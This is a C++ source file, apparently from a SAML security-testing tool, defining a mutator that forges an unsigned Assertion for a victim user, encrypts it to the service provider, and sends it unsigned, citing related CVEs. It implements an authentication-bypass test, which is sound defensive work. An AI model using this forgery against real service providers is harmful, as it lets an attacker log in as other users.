// SPDX-License-Identifier: Apache-2.0
// encryption.unsigned_forged — anyone can encrypt to the SP (its encryption certificate is public):
// the attacker forges an unsigned Assertion for the victim, encrypts it to the SP and sends it in
// an unsigned Response (attack-catalogue ENC-UNSIGNED-INNER; Net::SAML2 CVE-2026-18108, GitHub
// Enterprise CVE-2024-4985). Encryption is not authentication: saml-profiles §4.1.4.3 still needs a
// signature over the Assertion. Param `victim` (default megan.bowen@contoso.example).
#include "mutators/encryption/encryption.hpp"
#include "mutators/keys/keys.hpp"

namespace samlt::idp::mutators {

core::Result<void> encryption_unsigned_forged(Target& target) {
  if (auto recipient = enc::recipient(target); !recipient) {
    return core::fail(recipient.error());
  }
  if (auto victim = keys::victim_into_spec(target, keys::k_default_victim); !victim) {
    return victim;
  }
  target.spec.signing = Signing::none;
  return {};
}

}  // namespace samlt::idp::mutators
